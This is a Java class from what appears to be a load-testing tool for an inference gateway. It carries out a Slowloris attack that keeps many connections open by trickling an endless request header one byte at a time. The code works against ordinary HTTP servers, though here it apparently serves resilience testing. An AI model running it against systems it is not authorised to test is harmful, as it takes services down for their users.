package io.infergate.loadgen.attack;

import io.vertx.core.Context;
import io.vertx.core.buffer.Buffer;
import io.vertx.core.net.NetClient;
import io.vertx.core.net.NetSocket;
import io.vertx.core.net.SocketAddress;

import java.nio.charset.StandardCharsets;
import java.time.Duration;
import java.util.Optional;
import java.util.Set;

/**
 * Slowloris: on each connection (TLS when the target is https, HTTP/1.1), the start of a request head,
 * then one more byte of an endless header every {@code byteInterval}, so that the connection is never
 * idle and its request never complete. Only a deadline on the whole head ends it.
 *
 * <pre>{@code
 * SlowHeaders slow = attacker.slowHeaders(1000, Duration.ofSeconds(1));
 * ...
 * System.out.println(slow.stop().summary());
 * }</pre>
 */
public final class SlowHeaders extends AttackJob {

    /** The header lines trickled, byte by byte, over and over. */
    private static final byte[] TRICKLE = "X-Trickle: slow\r\n".getBytes(StandardCharsets.US_ASCII);

    private final Buffer headStart;
    private final long ticksPerByte;
    private long ticks;
    private int nextByte;

    SlowHeaders(Context context, NetClient client, SocketAddress target, String authority, int connections,
                Duration byteInterval) {
        super("slow-headers", context, client, target, connections);
        this.headStart = Buffer.buffer("POST " + Attacker.CHAT_PATH + " HTTP/1.1\r\nHost: " + authority
                + "\r\nContent-Type: application/json\r\n");
        this.ticksPerByte = Math.max(1, byteInterval.toMillis() / TICK_MILLIS);
    }

    @Override
    Optional<String> onOpen(NetSocket socket) {
        socket.handler(data -> { });
        // the header being trickled so far, so that this connection's next byte is everyone's next byte
        socket.write(headStart.copy().appendBytes(TRICKLE, 0, nextByte));
        return Optional.empty();
    }

    @Override
    void onTick(Set<NetSocket> connections) {
        if (++ticks % ticksPerByte != 0) {
            return;
        }
        Buffer next = Buffer.buffer(new byte[] {TRICKLE[nextByte]});
        nextByte = (nextByte + 1) % TRICKLE.length;
        connections.forEach(socket -> socket.write(next));
    }
}
